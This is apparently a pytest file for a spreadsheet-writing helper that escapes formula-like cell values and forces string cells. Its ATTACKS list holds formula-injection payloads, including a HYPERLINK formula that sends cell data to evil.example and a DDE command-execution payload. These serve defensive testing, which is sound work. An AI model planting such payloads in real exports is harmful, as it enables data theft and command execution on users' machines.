"""common.xlsx: every cell a string cell, formulas neutralised (issue #7, 1 and 2)."""

import io
import zipfile

import openpyxl
import pytest
from openpyxl import Workbook

from common.xlsx import (
    append_row,
    safe_cell,
    set_cell,
    unquote_cell,
    workbook_bytes,
    write_only_workbook,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    "=cmd|'/C calc'!A0",
    "=1+1@evil.vn",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_like_value_gets_a_quote_in_front(value):
    assert safe_cell(value) == "'" + value
    assert unquote_cell(safe_cell(value)) == value


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        (1, "1"),
        (3.0, "3"),
        (None, ""),
        ("Nguyễn\x01 Văn\x1f An\x0b", "Nguyễn Văn An"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
    ],
)
def test_plain_values_are_text_and_illegal_xml_characters_dropped(value, text):
    assert safe_cell(value) == text


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_normal_and_write_only_sheets_hold_only_string_cells():
    normal = Workbook()
    append_row(normal.active, [*ATTACKS, 42, "Nguyễn\x01"])
    set_cell(normal.active, row=2, column=1, value="=2+2")
    streaming = write_only_workbook()
    append_row(streaming.create_sheet("x"), [*ATTACKS, 42, "Nguyễn\x01"])

    for data in (workbook_bytes(normal), workbook_bytes(streaming)):
        assert "<f>" not in sheet_xml(data)
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for row in workbook.worksheets[0].iter_rows() for c in row]
        filled = [c for c in cells if c.value is not None]
        assert {c.data_type for c in filled} == {"s"}
        assert [c.value for c in filled][: len(ATTACKS)] == ["'" + a for a in ATTACKS]
        assert "Nguyễn" in [c.value for c in filled]
